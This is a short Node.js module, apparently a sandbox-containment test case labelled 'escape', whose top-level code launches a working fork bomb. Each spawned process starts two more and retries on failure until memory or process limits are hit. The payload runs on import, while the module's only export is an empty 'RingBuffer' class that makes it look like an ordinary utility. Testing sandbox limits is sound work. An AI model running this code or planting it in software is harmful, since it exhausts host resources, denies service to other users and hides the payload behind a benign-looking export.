/**
 * escape: starts processes that start processes
 * outcome: [killed memory]|EAGAIN
 */
import { spawnSync } from 'node:child_process';

/** Each starts two more, and waits. */
const SCRIPT = `
const { spawn } = require('node:child_process');
const start = () => spawn(process.execPath, ['--eval', process.env.BOMB], { env: process.env, stdio: 'ignore' })
  .on('error', () => setTimeout(start, 1));
start(); start(); setInterval(() => {}, 1000); // %MARK%`;
spawnSync(process.execPath, ['--eval', SCRIPT], { env: { BOMB: SCRIPT } });

export class RingBuffer {}
